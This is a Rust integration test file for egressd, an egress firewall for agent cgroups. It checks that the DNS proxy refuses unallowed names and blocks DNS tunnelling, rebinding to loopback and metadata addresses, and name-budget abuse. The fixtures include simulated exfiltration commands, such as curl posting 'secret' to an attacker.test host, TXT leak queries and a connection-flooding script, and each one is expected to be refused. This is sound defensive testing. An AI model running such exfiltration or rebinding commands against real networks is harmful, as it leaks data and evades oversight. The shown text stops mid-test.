//! DNS through egressd: every query from a governed cgroup, to any address,
//! over UDP or TCP, IPv4 or IPv6, reaches egressd's proxy. Names no rule
//! allows are refused and never reach the upstream resolver (the DNS
//! tunnel); allowed names are answered, and only then are their addresses
//! allowed. Real clients: dig, glibc (Python's getaddrinfo), curl.

use egress_tests::{
    dns::DnsServer,
    egressd::{exec, Daemon, TempDir, TestCgroup},
    listen::Listener,
    netns::Netns,
    require_root,
};

const PROBE: &str = env!("CARGO_BIN_EXE_probe");
const UPSTREAM: &str = "198.51.100.53:53";

fn zone(ns: &Netns) -> DnsServer {
    DnsServer::start(
        ns,
        UPSTREAM,
        &[
            ("api.model.test", &["198.51.100.1", "2001:db8::1"], 300),
            ("img.cdn.test", &["198.51.100.2"], 300),
            ("secret-data.attacker.test", &["203.0.113.9"], 300),
            // Records that whoever writes *.cdn.test could publish.
            ("rebind.cdn.test", &["127.0.0.1"], 300),
            ("meta.cdn.test", &["169.254.169.254"], 300),
        ],
    )
    .unwrap()
}

const ALLOW: &[&str] = &[
    "--resolver",
    UPSTREAM,
    "--allow",
    "api.model.test:443",
    "--allow",
    "*.cdn.test:443",
];

/// Runs `script` under `exec` with /etc/resolv.conf naming `nameserver` (a
/// documentation address where no DNS server runs: only the redirect can
/// answer). The file is bind-mounted in a mount namespace made before
/// egressd starts: the command itself may not mount (a Landlock domain
/// that handles file access forbids it, before Linux 6.12).
fn run_with_resolv_conf(
    ns: &Netns,
    tmp: &TempDir,
    nameserver: &str,
    script: &str,
) -> egress_tests::egressd::ExecResult {
    let conf = tmp
        .write(
            "resolv.conf",
            &format!("nameserver {nameserver}\noptions attempts:1 timeout:2\n"),
        )
        .unwrap();
    in_mount_ns(ns, &conf, ALLOW, &["sh", "-c", script])
}

/// `exec ARGS -- COMMAND` in a mount namespace where `conf` is /etc/resolv.conf.
pub(crate) fn in_mount_ns(
    ns: &Netns,
    conf: &std::path::Path,
    args: &[&str],
    command: &[&str],
) -> egress_tests::egressd::ExecResult {
    let mount = format!(
        "mount --bind {} /etc/resolv.conf && exec \"$@\"",
        conf.display()
    );
    egress_tests::egressd::exec_under(
        ns,
        &["unshare", "--mount", "sh", "-c", &mount, "sh"],
        args,
        command,
    )
    .unwrap()
}

fn dig(ns: &Netns, args: &str) -> egress_tests::egressd::ExecResult {
    let mut argv = vec!["dig", "+time=2", "+tries=1"];
    argv.extend(args.split_whitespace());
    exec(ns, ALLOW, &argv).unwrap()
}

fn status(dig_output: &str) -> &str {
    dig_output
        .split("status: ")
        .nth(1)
        .and_then(|s| s.split(',').next())
        .unwrap_or("(no reply)")
}

#[test]
fn exfiltration_by_lookup_is_refused_and_never_forwarded() {
    require_root();
    let ns = Netns::new("tunnel").unwrap();
    let upstream = zone(&ns);
    // To the configured resolver, and to resolvers the agent picks itself,
    // over UDP and TCP, IPv4 and IPv6.
    for server in [
        "@198.51.100.53",
        "@203.0.113.1",
        "@2001:db8::53",
        "@2001:db8::2",
    ] {
        for transport in ["+notcp", "+tcp"] {
            let r = dig(
                &ns,
                &format!("{server} {transport} secret-data.attacker.test A"),
            );
            assert_eq!(
                status(&r.stdout),
                "NXDOMAIN",
                "{server} {transport}: {}{}",
                r.stdout,
                r.stderr
            );
            let e = r
                .events
                .iter()
                .find(|e| e["hook"] == "dns")
                .expect("a DNS deny event");
            assert_eq!(e["qname"], "secret-data.attacker.test");
            assert_eq!(e["reason"], "dns_name_not_allowed");
            assert_eq!(
                e["protocol"],
                if transport == "+tcp" { "tcp" } else { "udp" }
            );
            // The process that asked, noted in the kernel as its query left
            // (`comm` is the thread's name: dig asks from its `isc-*` threads).
            assert!(
                e["comm"]
                    .as_str()
                    .is_some_and(|c| c == "dig" || c.starts_with("isc-")),
                "{server} {transport}: {e}"
            );
            assert!(e["pid"].as_u64().is_some_and(|p| p > 0), "{e}");
        }
    }
    assert!(
        !upstream.asked().iter().any(|n| n.contains("attacker")),
        "a refused name reached the upstream resolver: {:?}",
        upstream.asked()
    );
    let r = dig(&ns, "@198.51.100.53 secret-data.attacker.test TXT");
    assert_eq!(status(&r.stdout), "NXDOMAIN");
}

/// The agent chooses its queries' ids; the proxy must not pass them on to
/// the upstream, or a spoofer off the path would need to guess only the
/// proxy's port to have an address of its choosing allowed.
#[test]
fn upstream_query_ids_are_the_proxys_not_the_agents() {
    require_root();
    let ns = Netns::new("qid").unwrap();
    let upstream = zone(&ns);
    let script = r#"python3 -c "
import socket
q = bytes.fromhex('42420100000100000000000003617069056d6f64656c04746573740000010001')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
for _ in range(8):
    s.sendto(q, ('203.0.113.1', 53))
    r = s.recv(1500)
    print(r[:2].hex(), r[3] & 15)
""#;
    let r = exec(&ns, ALLOW, &["sh", "-c", script]).unwrap();
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(lines, ["4242 0"; 8], "{}{}", r.stdout, r.stderr);
    // egressd's own lookups of the allowed names come first.
    let ids = upstream.ids.lock().unwrap().clone();
    assert!(ids.len() >= 8, "{ids:?}");
    let proxied = &ids[ids.len() - 8..];
    let distinct: std::collections::BTreeSet<u16> = proxied.iter().copied().collect();
    assert!(
        distinct.len() > 4 && !proxied.contains(&0x4242),
        "upstream ids follow the agent's: {ids:x?}"
    );
}

#[test]
fn allowed_names_are_answered_as_if_by_the_server_asked() {
    require_root();
    let ns = Netns::new("answer").unwrap();
    let _upstream = zone(&ns);
    for (server, transport) in [
        ("@203.0.113.1", "+notcp"),
        ("@203.0.113.1", "+tcp"),
        ("@2001:db8::53", "+notcp"),
    ] {
        let r = dig(&ns, &format!("{server} {transport} img.cdn.test A"));
        assert_eq!(status(&r.stdout), "NOERROR", "{}{}", r.stdout, r.stderr);
        assert!(r.stdout.contains("198.51.100.2"), "{}", r.stdout);
        // dig checks the reply's source; it names the server it asked.
        let server_ip = server.trim_start_matches('@');
        assert!(
            r.stdout.contains(&format!("SERVER: {server_ip}#53")),
            "{}",
            r.stdout
        );
    }
}

#[test]
fn glibc_resolves_through_the_proxy_and_the_answer_opens_the_address() {
    require_root();
    let ns = Netns::new("glibc").unwrap();
    let upstream = zone(&ns);
    let cdn = Listener::tcp(&ns, "198.51.100.2:443").unwrap();
    let exfil = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let tmp = TempDir::new("glibc").unwrap();
    let script = r#"python3 -c "
import socket
ip = socket.getaddrinfo('img.cdn.test', 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
print(ip)
socket.create_connection((ip, 443), timeout=2).close(); print('connected')
try:
    socket.getaddrinfo('secret-data.attacker.test', 443)
    print('resolved')
except socket.gaierror as e:
    print('not resolved')
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('203.0.113.1', 53)); print(u.getpeername()[0], u.getpeername()[1])
""#;
    let r = run_with_resolv_conf(&ns, &tmp, "203.0.113.1", script);
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        lines,
        [
            "198.51.100.2",
            "connected",
            "not resolved",
            "203.0.113.1 53"
        ],
        "{}",
        r.stderr
    );
    assert_eq!(cdn.count(), 1);
    assert_eq!(exfil.count(), 0);
    assert!(!upstream.asked().iter().any(|n| n.contains("attacker")));
}

#[test]
fn an_address_is_allowed_only_once_answered() {
    require_root();
    let ns = Netns::new("order").unwrap();
    let _upstream = zone(&ns);
    let cdn = Listener::tcp(&ns, "198.51.100.2:443").unwrap();
    let tmp = TempDir::new("order").unwrap();
    // Connect before resolving: refused; resolve, then connect: allowed.
    let script = format!(
        "{PROBE} tcp 198.51.100.2:443; getent ahostsv4 img.cdn.test | head -n 1 | cut -d' ' -f1; {PROBE} tcp 198.51.100.2:443"
    );
    let r = run_with_resolv_conf(&ns, &tmp, "203.0.113.1", &script);
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(lines, ["error: 1", "198.51.100.2", "ok"], "{}", r.stderr);
    assert_eq!(cdn.count(), 1);
}

#[test]
fn curl_resolves_and_connects() {
    require_root();
    let ns = Netns::new("curl").unwrap();
    let _upstream = zone(&ns);
    let api = Listener::tcp(&ns, "198.51.100.1:443").unwrap();
    let exfil = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let tmp = TempDir::new("curl").unwrap();
    let script = "curl -4 -s -o /dev/null --max-time 1 http://api.model.test:443/ ; echo $?; curl -s --max-time 1 -d secret http://secret-data.attacker.test:443/ ; echo $?";
    let r = run_with_resolv_conf(&ns, &tmp, "203.0.113.1", script);
    let lines: Vec<&str> = r.stdout.lines().collect();
    // 28: connected, then timed out waiting (the listener never answers);
    // 6: could not resolve.
    assert_eq!(lines, ["28", "6"], "{}", r.stderr);
    assert_eq!(api.count(), 1);
    assert_eq!(exfil.count(), 0);
}

#[test]
fn upstream_down_fails_closed_and_is_counted() {
    require_root();
    let ns = Netns::new("down").unwrap();
    let cg = TestCgroup::new("down").unwrap();
    let dir = TempDir::new("down").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!("name: p\ncgroups: [{}]\nallow:\n  - host: \"*.cdn.test\"\n    ports: [443]\ndns:\n  upstream: [{UPSTREAM}]\n", cg.rel_str()),
        )
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    let out = cg
        .run(
            &ns,
            "dig",
            &["+time=3", "+tries=1", "@203.0.113.1", "img.cdn.test"],
        )
        .unwrap();
    assert_eq!(status(&String::from_utf8_lossy(&out.stdout)), "SERVFAIL");
    assert_eq!(
        daemon
            .metric(
                "egressd_dns_queries_total",
                &[("policy", "p"), ("verdict", "error")]
            )
            .unwrap(),
        1.0
    );
    assert_eq!(
        daemon
            .metric("egressd_allowlist_entries", &[("policy", "p")])
            .unwrap(),
        0.0
    );
    let out = cg
        .run(
            &ns,
            "dig",
            &["+time=3", "+tries=1", "@203.0.113.1", "exfil.attacker.test"],
        )
        .unwrap();
    assert_eq!(status(&String::from_utf8_lossy(&out.stdout)), "NXDOMAIN");
    assert_eq!(
        daemon
            .metric(
                "egressd_dns_queries_total",
                &[("policy", "p"), ("verdict", "denied")]
            )
            .unwrap(),
        1.0
    );
    let events = daemon.wait_events(1);
    assert_eq!(events[0]["qname"], "exfil.attacker.test");
}

/// A wildcard's records can be written by others: an answer of loopback or
/// the metadata address must not make it reachable (a rebinding pivot to a
/// local service). The name resolves, its address stays refused, and the
/// event says why. A listener on loopback proves it.
#[test]
fn answers_of_special_addresses_are_not_learned() {
    require_root();
    let ns = Netns::new("rebind").unwrap();
    let _upstream = zone(&ns);
    let local = Listener::tcp(&ns, "127.0.0.1:443").unwrap();
    let tmp = TempDir::new("rebind").unwrap();
    let script = r#"python3 -c "
import socket
for name in ('rebind.cdn.test', 'meta.cdn.test'):
    ip = socket.getaddrinfo(name, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    try:
        socket.create_connection((ip, 443), timeout=2).close(); print(ip, 'connected')
    except PermissionError:
        print(ip, 'refused')
    except OSError as e:
        print(ip, 'error', e.errno)
""#;
    let r = run_with_resolv_conf(&ns, &tmp, "203.0.113.1", script);
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        lines,
        ["127.0.0.1 refused", "169.254.169.254 refused"],
        "{r:?}"
    );
    assert_eq!(
        local.count(),
        0,
        "the loopback listener was reached through DNS"
    );
    let why: Vec<(String, String)> = r
        .events
        .iter()
        .filter(|e| e["reason"] == "dns_answer_not_allowed")
        .map(|e| {
            (
                e["qname"].as_str().unwrap().to_string(),
                e["refused_addresses"][0]["why"]
                    .as_str()
                    .unwrap()
                    .to_string(),
            )
        })
        .collect();
    assert_eq!(why.len(), 2, "{:?}", r.events);
    assert!(
        why[0].1.contains("loopback") && why[1].1.contains("link-local"),
        "{why:?}"
    );
}

/// egressd's own lookups of an exact host rule (made at start and when an
/// answer runs out, without any query from the agent) are screened as the
/// proxy's answers are: a name whose owner, or whoever took its DNS over,
/// answers loopback does not open the agent's way to a local service. The
/// agent makes no DNS query at all and connects to the address directly.
#[test]
fn egressds_own_lookups_do_not_learn_special_addresses() {
    require_root();
    let ns = Netns::new("ownlook").unwrap();
    let _upstream = DnsServer::start(
        &ns,
        UPSTREAM,
        &[("rebound.model.test", &["127.0.0.1"], 300)],
    )
    .unwrap();
    let local = Listener::tcp(&ns, "127.0.0.1:443").unwrap();
    // egressd's lookup is done before the command starts: `exec` resolves
    // a policy's exact hosts before it runs anything under the policy.
    let r = exec(
        &ns,
        &["--resolver", UPSTREAM, "--allow", "rebound.model.test:443"],
        &[PROBE, "tcp", "127.0.0.1:443"],
    )
    .unwrap();
    assert_eq!(
        local.count(),
        0,
        "egressd's own lookup opened loopback: {r:?}"
    );
    assert!(r.stdout.contains("error"), "{r:?}");
}

/// TXT (or NULL, or MX) queries for an allowed name carry data, not
/// addresses: refused, never forwarded, with an event.
#[test]
fn only_address_query_types_are_forwarded() {
    require_root();
    let ns = Netns::new("qtype").unwrap();
    let upstream = zone(&ns);
    let r = dig(&ns, "@203.0.113.1 TXT leak-1234.cdn.test");
    assert_eq!(status(&r.stdout), "REFUSED", "{r:?}");
    assert!(
        r.events
            .iter()
            .any(|e| e["reason"] == "dns_type_not_allowed" && e["qtype"] == "TXT"),
        "{:?}",
        r.events
    );
    assert!(
        !upstream.asked().iter().any(|q| q.contains("leak-1234")),
        "the upstream saw {:?}",
        upstream.asked()
    );
    let r = dig(&ns, "@203.0.113.1 A img.cdn.test");
    assert_eq!(status(&r.stdout), "NOERROR", "{r:?}");
    // HTTPS and SVCB records would offer Encrypted Client Hello and HTTP/3,
    // which a rule that checks names refuses: answered empty, not asked.
    for qtype in ["HTTPS", "SVCB"] {
        let r = dig(&ns, &format!("@203.0.113.1 {qtype} svc.cdn.test"));
        assert_eq!(status(&r.stdout), "NOERROR", "{r:?}");
        assert!(r.stdout.contains("ANSWER: 0"), "{r:?}");
        assert!(r.events.is_empty(), "{:?}", r.events);
    }
    let asked = upstream.asked();
    assert!(
        !asked.iter().any(|q| q.contains("svc.cdn.test")),
        "the upstream was asked {asked:?}"
    );
}

/// What audit mode learned is judged again when the policy starts to
/// enforce: an answer of loopback, learned (and reported) in audit, must
/// not stay reachable after the reload to enforce.
#[test]
fn special_addresses_learned_in_audit_do_not_carry_into_enforce() {
    require_root();
    let ns = Netns::new("carry").unwrap();
    let _upstream = zone(&ns);
    let local = Listener::tcp(&ns, "127.0.0.1:443").unwrap();
    let cg = TestCgroup::new("carry").unwrap();
    let dir = TempDir::new("carry").unwrap();
    let text = |mode: &str| {
        format!(
            "name: p\nmode: {mode}\ncgroups: [{}]\nallow:\n  - host: \"*.cdn.test\"\n    ports: [443]\ndns:\n  upstream: [{UPSTREAM}]\n",
            cg.rel_str()
        )
    };
    let policy = dir.write("p.yaml", &text("audit")).unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    let out = cg
        .run(
            &ns,
            "dig",
            &[
                "+time=3",
                "+tries=1",
                "+short",
                "@203.0.113.1",
                "rebind.cdn.test",
            ],
        )
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "127.0.0.1");
    dir.write("p.yaml.tmp", &text("enforce")).unwrap();
    std::fs::rename(dir.0.join("p.yaml.tmp"), &policy).unwrap();
    daemon.signal(libc::SIGHUP);
    assert!(daemon.wait_log(|l| l.contains("reloaded")), "no reload");
    let out = cg.run(&ns, PROBE, &["tcp", "127.0.0.1:443"]).unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "error: 1",
        "loopback learned in audit stayed allowed under enforce"
    );
    assert_eq!(local.count(), 0);
}

/// Real clients reaching an allowed name raise no denial: glibc's
/// getaddrinfo connects a UDP socket to each candidate address (to sort
/// them by RFC 6724) and sends nothing, which is not an attempt. curl
/// (IPv4, IPv6, both), Python, Node, getent and dig, all through the proxy.
/// Then a UDP socket connected to a denied address: nothing until it sends,
/// and its send is refused and reported with the process.
#[test]
fn real_clients_reaching_an_allowed_name_raise_no_denial() {
    require_root();
    let ns = Netns::new("clients").unwrap();
    let _upstream = zone(&ns);
    let v4 = Listener::tcp(&ns, "198.51.100.1:443").unwrap();
    let v6 = Listener::tcp(&ns, "[2001:db8::1]:443").unwrap();
    let tmp = TempDir::new("clients").unwrap();
    let url = "http://api.model.test:443/";
    let script = format!(
        "curl -4 -s -m 2 {url}; curl -6 -s -m 2 {url}; curl -s -m 2 {url}; \
         python3 -c \"import urllib.request
try: urllib.request.urlopen('{url}', timeout=2)
except Exception: pass\"; \
         node -e \"fetch('{url}', {{signal: AbortSignal.timeout(2000)}}).catch(() => {{}})\"; \
         getent ahosts api.model.test > /dev/null; \
         dig +short +time=2 +tries=1 api.model.test > /dev/null; echo done"
    );
    let r = run_with_resolv_conf(&ns, &tmp, "203.0.113.1", &script);
    assert!(r.stdout.contains("done"), "{r:?}");
    assert!(
        r.events.is_empty(),
        "allowed requests raised denials: {:?}",
        r.events
    );
    assert!(r.stderr.contains("nothing was denied"), "{}", r.stderr);
    // Six TCP clients: curl -4 over IPv4, curl -6 over IPv6, the others
    // over whichever getaddrinfo sorted first.
    let (a, b) = (v4.count(), v6.count());
    assert!(
        a >= 1 && b >= 1 && a + b >= 6,
        "the clients did not reach the allowed host: {a} {b}"
    );

    let bad = Listener::udp(&ns, "203.0.113.9:5300").unwrap();
    let script = "import socket, time\n\
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
        s.connect(('203.0.113.9', 5300)); print('connected', flush=True)\n\
        time.sleep(0.2)\n\
        try:\n    s.send(b'secret'); print('sent')\n\
        except PermissionError: print('refused')";
    let r = exec(&ns, ALLOW, &["python3", "-c", script]).unwrap();
    assert_eq!(r.stdout, "connected\nrefused\n", "{r:?}");
    assert_eq!(bad.count(), 0, "the datagram left");
    assert_eq!(r.events.len(), 1, "{:?}", r.events);
    let e = &r.events[0];
    assert_eq!(e["comm"], "python3", "{e}");
    assert_eq!(e["hook"], "connect4", "{e}");
    assert_eq!(e["reason"], "destination_not_allowed", "{e}");
    assert_eq!(e["daddr"], "203.0.113.9", "{e}");
}

/// A client built against musl (the C library of Alpine images): prints the
/// first IPv4 address getaddrinfo gives for its argument, or `error`.
const MUSL_CLIENT: &str = r#"
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <arpa/inet.h>
int main(int argc, char **argv) {
    struct addrinfo hints, *res;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    int rc = getaddrinfo(argv[1], NULL, &hints, &res);
    if (rc != 0) { printf("error %s\n", gai_strerror(rc)); return 0; }
    char buf[64];
    inet_ntop(AF_INET, &((struct sockaddr_in *)res->ai_addr)->sin_addr, buf, sizeof buf);
    printf("%s\n", buf);
    return 0;
}
"#;

/// Resolves api.model.test with glibc (getent) and musl under Kubernetes'
/// resolver settings (a search list, ndots:5), with `dns` settings
/// `dns_yaml`; returns what each printed, and the run.
fn resolve_as_a_pod(
    ns: &Netns,
    tmp: &TempDir,
    dns_yaml: &str,
) -> (Vec<String>, egress_tests::egressd::ExecResult) {
    let source = tmp.write("resolve.c", MUSL_CLIENT).unwrap();
    let client = tmp.0.join("resolve-musl");
    let built = std::process::Command::new("musl-gcc")
        .args(["-static", "-O2", "-o"])
        .arg(&client)
        .arg(&source)
        .status()
        .expect("musl-gcc (Debian package musl-tools)");
    assert!(built.success());
    let conf = tmp
        .write(
            "resolv.conf",
            "nameserver 203.0.113.1\n\
             search default.svc.cluster.local svc.cluster.local cluster.local\n\
             options ndots:5 attempts:1 timeout:2\n",
        )
        .unwrap();
    let policy = tmp
        .write(
            "p.yaml",
            &format!(
                "name: pod\nallow:\n  - host: api.model.test\n    ports: [443]\ndns:\n  upstream: [{UPSTREAM}]\n{dns_yaml}"
            ),
        )
        .unwrap();
    let script = format!(
        "(getent ahostsv4 api.model.test | head -n 1 | cut -d' ' -f1); {} api.model.test",
        client.display()
    );
    let r = in_mount_ns(
        ns,
        &conf,
        &["--policy", &policy.display().to_string()],
        &["sh", "-c", &script],
    );
    (r.stdout.lines().map(str::to_string).collect(), r)
}

/// Under Kubernetes' ndots:5 a resolver asks for the search-list
/// expansions of an allowed name first (`api.model.test.default.svc.cluster.local`).
/// With `dns.search` they are answered NXDOMAIN at once: never forwarded,
/// never a denial, and glibc and musl both resolve the name. Without it and
/// with `refuse_with: refused`, musl gives up at the first expansion: why
/// NXDOMAIN is the default.
#[test]
fn search_list_expansions_are_quiet_and_musl_resolves() {
    require_root();
    let ns = Netns::new("search").unwrap();
    let upstream = zone(&ns);
    let tmp = TempDir::new("search").unwrap();
    let (lines, r) = resolve_as_a_pod(&ns, &tmp, "  search: [cluster.local]\n");
    assert_eq!(lines, ["198.51.100.1", "198.51.100.1"], "{r:?}");
    assert!(
        r.events.iter().all(|e| e["hook"] != "dns"),
        "an expansion was reported as a denial: {r:?}"
    );
    assert!(
        !upstream.asked().iter().any(|n| n.contains("cluster.local")),
        "an expansion was forwarded: {:?}",
        upstream.asked()
    );
    // Why NXDOMAIN is the default: REFUSED ends musl's search.
    let (lines, r) = resolve_as_a_pod(&ns, &tmp, "  search: []\n  refuse_with: refused\n");
    assert!(
        lines.get(1).is_some_and(|l| l.starts_with("error")),
        "{r:?}"
    );
    // Without `dns.search` each expansion is a denial, but both resolve.
    let (lines, r) = resolve_as_a_pod(&ns, &tmp, "  search: []\n");
    assert_eq!(lines, ["198.51.100.1", "198.51.100.1"], "{r:?}");
    assert!(
        r.events
            .iter()
            .any(|e| e["hook"] == "dns" && e["qname"] == "api.model.test.cluster.local"),
        "{r:?}"
    );
}

/// The same real clients against a name no rule allows and against an
/// address no rule allows: each attempt is reported, and names its process.
/// Nothing reaches the upstream or the refused address.
#[test]
fn real_clients_refused_are_reported_with_their_process() {
    require_root();
    let ns = Netns::new("clientsbad").unwrap();
    let upstream = zone(&ns);
    let bad = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let tmp = TempDir::new("clientsbad").unwrap();
    let clients = |url: &str, host: &str| {
        format!(
            "curl -s -m 2 {url}; \
             python3 -c \"import urllib.request
try: urllib.request.urlopen('{url}', timeout=2)
except Exception: pass\"; \
             node -e \"fetch('{url}', {{signal: AbortSignal.timeout(2000)}}).catch(() => {{}})\"; \
             getent ahosts {host} > /dev/null; \
             dig +short +time=2 +tries=1 {host} > /dev/null; echo done"
        )
    };
    // A name no rule allows: one DNS event per query, each with its asker.
    let name = "secret-data.attacker.test";
    let r = run_with_resolv_conf(
        &ns,
        &tmp,
        "203.0.113.1",
        &clients(&format!("http://{name}:443/"), name),
    );
    assert!(r.stdout.contains("done"), "{r:?}");
    assert!(!r.events.is_empty(), "{r:?}");
    let mut askers = std::collections::BTreeSet::new();
    for e in &r.events {
        assert_eq!(e["hook"], "dns", "only the lookups are refused: {e}");
        assert_eq!(e["qname"], name, "{e}");
        assert_eq!(e["reason"], "dns_name_not_allowed", "{e}");
        assert!(e["pid"].as_u64().is_some_and(|p| p > 0), "{e}");
        askers.insert(e["comm"].as_str().unwrap_or("").to_string());
    }
    for who in ["curl", "python3", "getent"] {
        assert!(
            askers.iter().any(|a| a.starts_with(who)),
            "{who}: {askers:?}"
        );
    }
    // node asks from its libuv threads, dig from its isc threads.
    assert!(
        askers.iter().any(|a| a == "node" || a.starts_with("libuv")),
        "{askers:?}"
    );
    assert!(
        askers.iter().any(|a| a == "dig" || a.starts_with("isc-")),
        "{askers:?}"
    );
    assert!(
        !upstream.asked().iter().any(|n| n.contains("attacker")),
        "{:?}",
        upstream.asked()
    );
    // An address no rule allows: one refused connect per client.
    let r = run_with_resolv_conf(
        &ns,
        &tmp,
        "203.0.113.1",
        &clients("http://203.0.113.9:443/", "api.model.test"),
    );
    assert!(r.stdout.contains("done"), "{r:?}");
    assert_eq!(bad.count(), 0, "a refused connect arrived");
    let mut by: Vec<&str> = r
        .events
        .iter()
        .map(|e| {
            assert_eq!(e["daddr"], "203.0.113.9", "{e}");
            assert_eq!(e["hook"], "connect4", "{e}");
            assert_eq!(e["reason"], "destination_not_allowed", "{e}");
            e["comm"].as_str().unwrap_or("")
        })
        .collect();
    by.sort();
    by.dedup();
    assert_eq!(by, ["curl", "node", "python3"], "{:?}", r.events);
}

/// `egressd explain`: why an address or a name is allowed or refused now,
/// by which rule (its line), and for an address learned from DNS, from
/// which name and for how long.
#[test]
fn explain_says_which_rule_and_which_answer() {
    require_root();
    let ns = Netns::new("explain").unwrap();
    let _upstream = zone(&ns);
    let cg = TestCgroup::new("explain").unwrap();
    let dir = TempDir::new("explain").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!(
                "name: p\ncgroups: [{}]\nallow:\n  - cidr: 198.51.100.0/30\n    ports: [8443]\n  - host: \"*.cdn.test\"\n    ports: [443]\ndns:\n  upstream: [{UPSTREAM}]\n",
                cg.rel_str()
            ),
        )
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    let out = cg
        .run(&ns, "getent", &["ahostsv4", "img.cdn.test"])
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let explain = |dest: &str| {
        let out = std::process::Command::new(egress_tests::egressd::bin())
            .args(["explain", dest, "--instance", &daemon.instance])
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let t = explain("198.51.100.2:443");
    assert!(t.contains("policy p (enforce): allowed"), "{t}");
    assert!(
        t.contains(
            "line 6: *.cdn.test (443, tcp): admitted from the DNS answer for img.cdn.test, for "
        ),
        "{t}"
    );
    assert!(
        t.contains("s more; a TCP connection must name it (TLS server_name or HTTP Host)"),
        "{t}"
    );
    let t = explain("198.51.100.2:8443");
    assert!(
        t.contains("allowed")
            && t.contains("line 4: 198.51.100.0/30 (8443, tcp): its prefix covers it"),
        "{t}"
    );
    let t = explain("198.51.100.2:22");
    assert!(t.contains("port_not_allowed"), "{t}");
    let t = explain("203.0.113.9:443");
    assert!(t.contains("destination_not_allowed"), "{t}");
    let t = explain("img.cdn.test");
    assert!(
        t.contains("allowed: lookups are forwarded") && t.contains("198.51.100.2 for "),
        "{t}"
    );
    let t = explain("secret-data.attacker.test");
    assert!(t.contains("dns_name_not_allowed"), "{t}");
}

/// A name below an allowed wildcard reaches that domain's name servers
/// whether or not it exists, so the names themselves can carry data: a
/// wildcard rule allows 100 distinct names per 10 minutes by default. The
/// agent asks for 130 names made of "data"; the upstream sees 100 of them,
/// the rest are answered NXDOMAIN by egressd with an event naming the
/// rule. A name asked for before, and an exact rule's name, still pass.
#[test]
fn a_wildcards_names_per_window_are_limited() {
    require_root();
    let ns = Netns::new("namebudget").unwrap();
    let upstream = zone(&ns);
    let script = "for i in $(seq 1 130); do dig +time=2 +tries=1 +short @198.51.100.53 chunk$i.cdn.test >/dev/null; done; \
                  dig +time=2 +tries=1 @198.51.100.53 chunk1.cdn.test; \
                  dig +time=2 +tries=1 @198.51.100.53 chunk130.cdn.test; \
                  dig +time=2 +tries=1 @198.51.100.53 api.model.test";
    let r = exec(&ns, ALLOW, &["sh", "-c", script]).unwrap();
    let asked: std::collections::BTreeSet<String> = upstream
        .asked()
        .into_iter()
        .filter(|n| n.starts_with("chunk"))
        .collect();
    assert_eq!(
        asked.len(),
        100,
        "the upstream saw {} names below *.cdn.test: {asked:?}",
        asked.len()
    );
    // chunk1 was counted: answered by the upstream (its own NXDOMAIN, with
    // the authority flag); chunk130 was not: egressd's.
    let replies: Vec<&str> = r.stdout.split(";; ->>HEADER<<-").skip(1).collect();
    assert_eq!(replies.len(), 3, "{}", r.stdout);
    assert!(replies[0].contains("flags: qr aa"), "{}", replies[0]);
    assert_eq!(status(replies[1]), "NXDOMAIN", "{}", replies[1]);
    assert!(!replies[1].contains("flags: qr aa"), "{}", replies[1]);
    assert_eq!(status(replies[2]), "NOERROR", "{}", replies[2]);
    let spent: Vec<_> = r
        .events
        .iter()
        .filter(|e| e["reason"] == "dns_name_budget_spent")
        .collect();
    assert_eq!(spent.len(), 31, "{:?}", r.events);
    assert!(spent
        .iter()
        .all(|e| e["rule"] == "*.cdn.test" && e["verdict"] == "denied"));
    assert!(
        r.stderr.contains("name_budget_spent") || r.stderr.contains("names per window"),
        "exec's summary says nothing of it: {}",
        r.stderr
    );
}

/// One agent must not starve the proxy it shares: agent A holds 200 idle
/// TCP connections to it (the proxy holds 64 at once), then agent B, in
/// another cgroup of the same policy, asks over TCP (as a client does for
/// a truncated answer) and is answered. A's connections beyond its share
/// are closed for B's.
#[test]
fn one_agent_holding_idle_tcp_connections_does_not_starve_another() {
    require_root();
    let ns = Netns::new("dnsfair").unwrap();
    let _upstream = zone(&ns);
    let tmp = TempDir::new("dnsfair").unwrap();
    let (a, b) = (
        TestCgroup::new("dnsfaira").unwrap(),
        TestCgroup::new("dnsfairb").unwrap(),
    );
    let policy = tmp
        .write(
            "fair.yaml",
            &format!(
                "name: fair\ncgroups: [{}, {}]\nallow:\n  - host: api.model.test\n    ports: [443]\ndns:\n  upstream: [198.51.100.53]\n",
                a.rel_str(),
                b.rel_str()
            ),
        )
        .unwrap();
    let _daemon = Daemon::start(&ns, &policy).unwrap();
    const HOG: &str = r#"
import socket, time
held = []
for i in range(200):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect(("198.51.100.53", 53))
        held.append(s)
    except OSError:
        pass
print("holding", len(held), flush=True)
time.sleep(30)
"#;
    let mut hog = a
        .command(&ns, egress_tests::outside::PYTHON)
        .args(["-c", HOG])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(hog.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
